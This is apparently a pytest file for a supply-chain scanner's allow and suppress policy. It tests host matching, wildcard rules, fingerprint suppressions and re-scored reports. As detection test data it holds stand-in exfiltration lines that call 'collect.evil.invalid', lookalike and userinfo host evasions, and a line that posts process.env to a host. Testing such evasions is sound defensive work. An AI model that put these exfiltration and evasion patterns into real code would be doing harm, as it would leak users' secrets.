"""`allow` and `suppress`: what they cover, what they never cover, and the re-scored report."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from watcher.models import (
    Ecosystem,
    FileCounts,
    Finding,
    MetadataSummary,
    Provenance,
    Report,
    Severity,
)
from watcher.policy import Policy, apply_policy, finding_hosts, parse_allow, parse_suppression
from watcher.report.jsonfmt import report_dict, report_from_dict
from watcher.report.markdown import render_markdown
from watcher.report.text import render_text
from watcher.scoring import score


def network(evidence: str | None, *, subject: str | None = None) -> Finding:
    return Finding(
        "code.network",
        Severity.MEDIUM,
        "network: makes a network request",
        "network",
        path="index.js",
        line=12,
        evidence=evidence,
        subject=subject,
    )


def new_host(host: str, evidence: str) -> Finding:
    return Finding(
        "code.new-host",
        Severity.LOW,
        f"host: contains a hard-coded host: `{host}`",
        "host",
        path="index.js",
        line=12,
        evidence=evidence,
    )


HOOK = Finding(
    "npm.install-script",
    Severity.HIGH,
    "`postinstall` script added: `node lib/setup.js`",
    "install-hook",
    path="package.json",
    line=5,
    evidence='"postinstall": "node lib/setup.js"',
)


def report_of(*findings: Finding) -> Report:
    verdict = score(findings)
    return Report(
        ecosystem=Ecosystem.NPM,
        package="demo",
        old_version="1.0.0",
        new_version="1.0.1",
        score=verdict.score,
        severity=verdict.severity,
        findings=findings,
        files=FileCounts(changed=1),
        metadata=MetadataSummary(None, Provenance.UNKNOWN, False),
        reasons=verdict.reasons,
    )


def covered(entry: str, finding: Finding) -> bool:
    return Policy.parse(allow=[entry]).covering(finding) is not None


# --- network: exact hosts, wildcards, never substrings ------------------------------------


@pytest.mark.parametrize(
    "evidence",
    [
        "const res = await fetch('https://api.github.com/repos/' + repo);",
        'requests.get("https://API.GitHub.com:443/user")',
        "https.request({hostname: 'api.github.com', method: 'GET'})",
        "fetch(`https://api.github.com/repos/${owner}`)",
    ],
)
def test_exact_host_covers_network_and_new_host_findings(evidence: str) -> None:
    assert covered("network:api.github.com", network(evidence))
    assert covered("network:api.github.com", new_host("api.github.com", evidence))
    assert covered("host:api.github.com", network(evidence))


@pytest.mark.parametrize(
    "evidence",
    [
        "fetch('https://api.github.com.evil.invalid/collect')",
        "fetch('https://evilapi.github.com/collect')",
        "fetch('https://github.com/login')",
        # Userinfo: the host is what follows the @.
        "fetch('https://api.github.com@collect.evil.invalid/')",
        "fetch('https://api.github.com:443@collect.evil.invalid/')",
        # Two hosts on the line: both must be allowed.
        "fetch('https://collect.evil.invalid/?from=https://api.github.com')",
        # A host assembled from pieces: the fragment matches nothing.
        "fetch('https://api.github.com' + '.evil.invalid/x')",
        "requests.post('https://' + 'api.github.com.evil.invalid')",
        # A host computed at run time.
        "fetch(`https://${host}/x`)",
    ],
)
def test_exact_host_never_matches_a_substring_or_a_neighbour(evidence: str) -> None:
    assert not covered("network:api.github.com", network(evidence))
    assert not covered("network:api.github.com", new_host("x", evidence))


def test_a_finding_that_names_no_host_is_not_covered_by_a_host() -> None:
    # `https.request({` with the host on the next line: nothing to check the entry against.
    finding = network("const req = https.request({")
    assert finding_hosts(finding) == frozenset()
    assert not covered("network:api.github.com", finding)
    assert not covered("network:api.github.com", network(None))
    assert covered("rule:code.network", finding)


@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("raw.githubusercontent.com", True),
        ("a.b.githubusercontent.com", True),
        ("githubusercontent.com", False),
        ("evilgithubusercontent.com", False),
        ("raw.githubusercontent.com.evil.invalid", False),
    ],
)
def test_wildcard_covers_names_under_the_domain_only(host: str, expected: bool) -> None:
    finding = network(f"fetch('https://{host}/x')")
    assert covered("network:*.githubusercontent.com", finding) is expected


def test_a_host_entry_covers_only_network_and_host_findings() -> None:
    env = Finding(
        "code.env-access",
        Severity.HIGH,
        "reads the whole environment",
        "env",
        evidence="fetch('https://api.github.com', {body: JSON.stringify(process.env)})",
    )
    assert not covered("network:api.github.com", env)


def test_a_structured_subject_wins_over_the_evidence_text() -> None:
    # The rule knows the host; whatever else the line says is not what the finding is about.
    finding = network(
        "fetch(base + path) // see https://docs.example.com", subject="api.github.com"
    )
    assert finding_hosts(finding) == {"api.github.com"}
    assert covered("network:api.github.com", finding)
    assert not covered("network:docs.example.com", finding)


@given(st.from_regex(r"[a-z0-9-][a-z0-9.-]{0,19}|\.[a-z0-9-][a-z0-9.-]{0,18}", fullmatch=True))
def test_no_suffix_of_an_allowed_host_is_allowed(suffix: str) -> None:
    evidence = f"fetch('https://api.github.com{suffix}/x')"
    assert not covered("network:api.github.com", network(evidence))


# --- rule: entries and suppressions --------------------------------------------------------


def test_rule_entry_covers_every_finding_of_that_rule_only() -> None:
    policy = Policy.parse(allow=["rule:code.new-host"])
    assert policy.covering(new_host("a.example", "'a.example'")) == "allow:rule:code.new-host"
    assert policy.covering(network("fetch('https://a.example')")) is None


def test_suppression_covers_exactly_the_accepted_finding() -> None:
    accepted = network("fetch('https://telemetry.example.com/v1')")
    policy = Policy.parse(suppress=[f"code.network@{accepted.fingerprint}"])
    assert policy.covering(accepted) == f"suppress:code.network@{accepted.fingerprint}"
    # The same line in the next release, moved further down the file: still the accepted one.
    assert policy.covering(replace(accepted, line=40)) is not None
    # A new line of the same rule is new: it is reported.
    assert policy.covering(network("fetch('https://collect.evil.invalid/v1')")) is None
    # The same line in another file is another finding.
    assert policy.covering(replace(accepted, path="lib/other.js")) is None


def test_a_new_finding_of_a_suppressed_rule_still_scores_and_alerts() -> None:
    accepted = network("fetch('https://telemetry.example.com/v1')")
    fresh = network("fetch('https://collect.evil.invalid/v1')")
    policy = Policy.parse(suppress=[f"code.network@{accepted.fingerprint}"])
    result = apply_policy(report_of(HOOK, accepted, fresh), policy)
    assert [f.evidence for f in result.findings if f.rule == "code.network"] == [fresh.evidence]
    assert result.severity is Severity.CRITICAL and result.reasons
    assert [s.finding for s in result.suppressed] == [accepted]


def test_suppression_is_by_rule_and_fingerprint_together() -> None:
    finding = network("fetch('https://telemetry.example.com/v1')")
    policy = Policy.parse(suppress=[f"code.new-host@{finding.fingerprint}"])
    assert policy.covering(finding) is None


# --- re-scoring ----------------------------------------------------------------------------


def test_an_allowed_partner_does_not_complete_a_combination() -> None:
    call = network("fetch('https://api.github.com/repos')")
    before = report_of(HOOK, call)
    assert before.severity is Severity.CRITICAL and before.reasons

    after = apply_policy(before, Policy.parse(allow=["network:api.github.com"]))
    assert after.severity is Severity.HIGH and after.reasons == ()
    assert (after.score, after.severity) == (score([HOOK]).score, score([HOOK]).severity)
    assert after.findings == (HOOK,)
    assert [(s.finding, s.by) for s in after.suppressed] == [(call, "allow:network:api.github.com")]


def test_everything_allowed_is_severity_none_with_the_findings_kept() -> None:
    call = network("fetch('https://api.github.com/repos')")
    host = new_host("api.github.com", call.evidence or "")
    after = apply_policy(report_of(call, host), Policy.parse(allow=["network:api.github.com"]))
    assert (after.score, after.severity, after.findings) == (0, Severity.NONE, ())
    assert {s.finding for s in after.suppressed} == {call, host}


def test_an_empty_or_unmatched_policy_changes_nothing() -> None:
    report = report_of(HOOK, network("fetch('https://api.github.com/repos')"))
    assert apply_policy(report, Policy()) is report
    assert apply_policy(report, Policy.parse(allow=["network:other.example"])) is report


# --- parsing ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("network", "must be 'category:value'"),
        ("network:https://api.github.com/", "takes a host such as"),
        ("network:api.github.com:443", "without scheme, port or path"),
        ("network:*.com", "not a whole top-level domain"),
        ("network:*", "takes a host"),
        ("network:api.*.com", "takes a host"),
        ("rule:code.netwrk", "unknown rule 'code.netwrk' (did you mean 'code.network'?)"),
        ("env:HOME", "unknown kind 'env'"),
    ],
)
def test_bad_allow_entries(entry: str, message: str) -> None:
    with pytest.raises(ValueError) as info:
        parse_allow(entry)
    assert message in str(info.value)


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("code.network", "must be 'RULE@FINGERPRINT'"),
        ("code.network@6f7e59", "fingerprint must be 16 hex digits"),
        ("code.network@6f7e5998603dad0g", "fingerprint must be 16 hex digits"),
        ("code.netwrk@6f7e5998603dad00", "unknown rule 'code.netwrk'"),
    ],
)
def test_bad_suppress_entries(entry: str, message: str) -> None:
    with pytest.raises(ValueError) as info:
        parse_suppression(entry)
    assert message in str(info.value)


def test_entries_are_normalised() -> None:
    assert str(parse_allow("network:API.GitHub.com.")) == "network:api.github.com"
    assert str(parse_suppression("code.network@6F7E5998603DAD00")) == (
        "code.network@6f7e5998603dad00"
    )


# --- the reviewer still sees them ----------------------------------------------------------


def applied() -> Report:
    return apply_policy(
        report_of(HOOK, network("fetch('https://api.github.com/repos')")),
        Policy.parse(allow=["network:api.github.com"]),
    )


def test_json_lists_suppressed_findings_and_reads_them_back() -> None:
    report = applied()
    data = json.loads(json.dumps(report_dict(report)))
    assert [f["rule"] for f in data["findings"]] == ["npm.install-script"]
    [item] = data["suppressed"]
    assert item["rule"] == "code.network"
    assert item["suppressed_by"] == "allow:network:api.github.com"
    assert item["fingerprint"] == report.suppressed[0].finding.fingerprint
    assert report_from_dict(data) == report


def test_text_and_markdown_show_fingerprints_and_the_suppressed() -> None:
    report = applied()
    call = report.suppressed[0].finding
    text = render_text(report)
    assert f"npm.install-script  package.json:5  fp:{HOOK.fingerprint}" in text
    assert "ALLOWED OR SUPPRESSED (1)" in text
    assert f"fp:{call.fingerprint}" in text and "allow:network:api.github.com" in text
    markdown = render_markdown(report)
    assert f"`{HOOK.fingerprint}`" in markdown
    assert "Allowed or suppressed (1)" in markdown and "`allow:network:api.github.com`" in markdown
